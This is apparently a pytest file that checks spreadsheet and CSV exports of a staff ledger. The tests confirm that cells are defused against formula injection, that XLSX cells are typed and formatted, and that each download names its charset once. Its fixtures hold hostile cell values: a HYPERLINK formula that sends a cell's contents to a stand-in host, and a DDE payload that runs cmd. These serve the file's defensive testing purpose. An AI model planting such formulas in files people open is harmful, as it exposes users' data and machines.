"""Spreadsheets people open (issue 21, items 4, 8 and 11): no cell becomes a formula, one charset per download,
and the XLSX is typed, bold, frozen, filtered and sized; read back with openpyxl (and LibreOffice when present)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from conftest import csrf_token
from desk_helpers import bj, make_question
from openpyxl import load_workbook
from test_exports import wait_until_finished

from portal import sheets
from portal.services.desk.ledger import COLUMNS, HEADERS

HYPERLINK = '=HYPERLINK("http://x.example/?"&B1,"详情")'
# Our own inputs of the kind: DDE through a pipe, a leading plus, minus and at sign, and a tab before "=".
OWN = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4", "\t=1+1"]


@pytest.fixture
def hostile(app, staff):
    make_question(app, 1, bj(2026, 11, 2, 9), staff.roads, replied=bj(2026, 11, 2, 11), due=bj(2026, 11, 2, 18),
                  rating="satisfied", title=HYPERLINK)
    for n, title in enumerate(OWN, start=2):
        make_question(app, n, bj(2026, 11, 2 + n, 9), staff.schools, title=title)
    return staff


def csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_formula_title_is_not_a_formula_in_the_csv(client, auth, hostile):
    auth.login("office")
    table = csv_table(client.get("/staff/ledger.csv").get_data())
    titles = [row[1] for row in table[1:]]
    assert titles[0] == "'" + HYPERLINK
    assert all(t.startswith("'") for t in titles), titles
    assert table[1][0] == "2026110200001"  # numbers and ids are not touched


def test_a_formula_title_is_a_text_cell_in_the_xlsx(client, auth, hostile):
    auth.login("office")
    data = client.get("/staff/ledger.xlsx").get_data()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, 2 + 1 + len(OWN))]
    assert [c.value for c in cells] == [HYPERLINK, *OWN]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)  # Excel keeps them text even when someone edits the cell


def test_the_background_exports_are_defused_too(app, client, auth, hostile):
    auth.login("office")
    for fmt in ("csv", "xlsx"):
        token = csrf_token(client, "/staff/ledger")
        started = client.post("/staff/ledger/exports", data={"csrf_token": token, "format": fmt})
        status, _seen = wait_until_finished(client, started.headers["Location"])
        data = client.get(status["download_url"]).get_data()
        if fmt == "csv":
            assert csv_table(data)[1][1] == "'" + HYPERLINK
        else:
            cell = load_workbook(io.BytesIO(data)).active["B2"]
            assert cell.value == HYPERLINK and cell.data_type == "s"


def test_the_xlsx_ledger_is_typed_frozen_bold_filtered_and_sized(client, auth, hostile):
    auth.login("office")
    sheet = load_workbook(io.BytesIO(client.get("/staff/ledger.xlsx").get_data())).active
    assert sheet.title == "台账"
    assert [c.value for c in sheet[1]] == list(HEADERS)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:R{2 + len(OWN)}"  # 18 columns: the two channel columns last
    received, hours, number = sheet["G2"], sheet["M2"], sheet["A2"]
    assert received.value == datetime(2026, 11, 2, 9) and received.is_date  # Beijing time, a date cell
    assert received.number_format == sheets.TIME_FORMAT
    assert all(sheet.cell(row=2, column=c).is_date for c in range(7, 12))
    assert hours.value == 2.0 and hours.data_type == "n" and hours.number_format == "0.0"
    assert number.value == "2026110200001" and number.data_type == "s" and number.number_format == "@"
    widths = {c: sheet.column_dimensions[c].width for c in "ABGM"}
    assert widths["A"] >= len("2026110200001") and widths["G"] >= len("2026-11-02 09:00")
    assert widths["B"] >= sheets.display_width("标题") + 2
    assert widths["M"] >= sheets.display_width("用时（小时）")


def test_width_fits_a_long_chinese_title_and_is_capped():
    handle = io.BytesIO()
    title = "城关镇解放路与人民路交叉口红绿灯时长太短"  # 20 characters, 40 columns wide
    sheets.write_xlsx(handle, "台账", COLUMNS, [["1", title], ["2", "路" * 200]])
    sheet = load_workbook(handle).active
    assert sheet.column_dimensions["B"].width == sheets.MAX_WIDTH
    handle = io.BytesIO()
    sheets.write_xlsx(handle, "台账", COLUMNS, [["1", title]])
    assert load_workbook(handle).active.column_dimensions["B"].width == 42


@pytest.mark.skipif(shutil.which("libreoffice") is None and shutil.which("soffice") is None,
                    reason="LibreOffice is not installed (optional)")
def test_libreoffice_reads_the_times_as_dates(client, auth, hostile, tmp_path: Path):
    auth.login("office")
    source = tmp_path / "ledger.xlsx"
    source.write_bytes(client.get("/staff/ledger.xlsx").get_data())
    office = shutil.which("libreoffice") or shutil.which("soffice")
    subprocess.run([office, "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=120)
    row = csv_table((tmp_path / "ledger.csv").read_bytes())[1]
    assert row[1] == HYPERLINK  # shown as the text it is, not computed
    assert row[6].startswith("2026-11-02 09:00") and row[12] == "2.0"


# ---- 8. one charset per download ------------------------------------------------------------------------


def one_charset(response) -> None:
    content_type = response.headers["Content-Type"]
    assert content_type.lower().count("charset") <= 1, content_type


def test_every_download_names_its_charset_once(app, client, auth, hostile):
    """The field report: /staff/ledger.csv and the summary sent `charset=utf-8; charset=utf-8`."""
    auth.login("office")
    csv_response = client.get("/staff/ledger.csv")
    csv_response.get_data()  # read the stream before the next request
    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
    summary = client.get("/staff/stats/summary?month=2026-11")
    assert summary.status_code == 200 and summary.headers["Content-Type"] == "text/markdown; charset=utf-8"
    token = csrf_token(client, "/staff/ledger")
    started = client.post("/staff/ledger/exports", data={"csrf_token": token, "format": "csv"})
    status, _seen = wait_until_finished(client, started.headers["Location"])
    background = client.get(status["download_url"])
    assert background.headers["Content-Type"] == "text/csv; charset=utf-8"
    others = [client.get(url) for url in ("/staff/ledger.xlsx", "/feeds/answers.atom", "/feeds/bulletins.rss",
                                          "/press/conferences.ics", "/api/v1/questions")]
    for response in [csv_response, summary, background, *others]:
        assert response.status_code == 200
        one_charset(response)
